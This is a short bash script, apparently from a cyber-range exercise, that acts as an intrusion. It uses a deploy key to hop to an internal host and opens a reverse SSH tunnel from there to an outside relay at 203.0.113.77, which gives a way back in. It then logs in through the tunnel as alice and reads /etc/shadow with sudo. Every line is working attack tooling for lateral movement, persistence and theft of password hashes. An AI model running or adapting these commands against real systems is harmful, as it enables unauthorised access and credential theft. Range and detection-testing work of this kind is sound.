#!/bin/bash
# From the build machine, with deploy's rights: a way back in through a reverse tunnel.
ssh -q -b 10.20.0.12 -i /range/keys/deploy deploy@10.20.0.5 'timeout 12 ssh -N -R 2222:127.0.0.1:22 relay@203.0.113.77' &
sleep 5
ssh -q -b 203.0.113.77 -p 2222 -i /range/keys/alice alice@203.0.113.77 'id; sudo cat /etc/shadow' >/dev/null ||
  ssh -q -p 2222 -i /range/keys/alice alice@127.0.0.1 'id; sudo cat /etc/shadow' >/dev/null
wait
true
